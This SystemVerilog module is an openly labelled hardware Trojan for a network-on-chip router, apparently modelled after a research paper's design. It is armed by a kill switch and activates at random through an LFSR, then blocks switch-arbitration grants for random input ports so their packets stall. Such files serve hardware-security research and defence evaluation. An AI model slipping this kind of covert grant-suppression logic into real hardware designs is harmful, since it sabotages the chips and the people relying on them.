// ht_payload: packet-blocking hardware Trojan sitting on the switch
// arbitration grants of one router (the payload gate between the switch
// allocator and the VC buffers, armed by a kill switch).
//
// While `kill_switch` is low the Trojan is dormant and passes every grant.
// While it is high and the Trojan is dormant, it draws once every ACT_PERIOD
// cycles and becomes active with probability P_ACT_Q8/256 (0.6 by default, the
// activation probability the document evaluates most), for a random duration
// of 1..MAX_BLOCK cycles. While active, in every cycle it picks at random one
// input port whose head flit has just won switch arbitration and adds it to a
// block mask; grants of blocked ports are suppressed (gnt_out = gnt_in & ~mask),
// so their flits stay in their VC buffers. When the duration expires the mask
// is cleared and arbitration proceeds normally again. The draw period, the
// duration range and the LFSR are this design's choices.
// Timing: gnt_out is combinational in gnt_in; the mask and state change at the
// clock edge. `block_event` pulses with each newly blocked port.
module ht_payload
  import noc_pkg::*;
#(
  parameter int unsigned P_ACT_Q8   = 154,   // activation probability * 256
  parameter int unsigned ACT_PERIOD = 64,
  parameter int unsigned MAX_BLOCK  = 32,
  parameter logic [15:0] SEED       = 16'hACE1
) (
  input  logic                 clk,
  input  logic                 rst_n,
  input  logic                 kill_switch,
  input  logic [NUM_PORTS-1:0] gnt_in,
  input  logic [NUM_PORTS-1:0] gnt_is_head,
  output logic [NUM_PORTS-1:0] gnt_out,
  output logic                 active,
  output logic                 block_event,
  output logic [NUM_PORTS-1:0] block_mask
);
  localparam int unsigned PW = $clog2(ACT_PERIOD + 1);
  localparam int unsigned DW = $clog2(MAX_BLOCK + 1);

  logic [15:0]  lfsr;
  logic [PW-1:0] period_cnt;
  logic [DW-1:0] remain;

  // 16-bit Galois LFSR, taps x^16 + x^14 + x^13 + x^11 + 1
  always_ff @(posedge clk) begin
    if (!rst_n) lfsr <= (SEED == 16'h0) ? 16'h1 : SEED;
    else        lfsr <= {1'b0, lfsr[15:1]} ^ (lfsr[0] ? 16'hB400 : 16'h0);
  end

  // choose one new victim among winning head flits, starting at a random port
  logic [NUM_PORTS-1:0] cand, pick;
  int unsigned          start, idx;
  always_comb begin
    idx   = 0;
    cand  = gnt_in & gnt_is_head & ~block_mask;
    pick  = '0;
    start = int'(lfsr[10:8]) % NUM_PORTS;
    if (active) begin
      for (int unsigned k = 0; k < NUM_PORTS; k++) begin
        idx = (start + k) % NUM_PORTS;
        if (pick == '0 && cand[idx]) pick[idx] = 1'b1;
      end
    end
  end

  assign gnt_out     = gnt_in & ~(block_mask | pick);
  assign block_event = (pick != '0);

  logic draw_hit;
  assign draw_hit = (int'(lfsr[7:0]) < P_ACT_Q8);

  always_ff @(posedge clk) begin
    if (!rst_n) begin
      active     <= 1'b0;
      period_cnt <= '0;
      remain     <= '0;
      block_mask <= '0;
    end else if (!active) begin
      block_mask <= '0;
      if (!kill_switch) begin
        period_cnt <= '0;
      end else if (int'(period_cnt) == ACT_PERIOD - 1) begin
        period_cnt <= '0;
        if (draw_hit) begin
          active <= 1'b1;
          remain <= DW'(int'(lfsr[15:11]) % MAX_BLOCK + 1);
        end
      end else begin
        period_cnt <= period_cnt + 1'b1;
      end
    end else begin
      block_mask <= block_mask | pick;
      if (remain == DW'(1)) begin
        active     <= 1'b0;
        block_mask <= '0;
      end
      remain <= remain - 1'b1;
    end
  end

  assert property (@(posedge clk) disable iff (!rst_n) (gnt_out & ~gnt_in) == '0);
endmodule
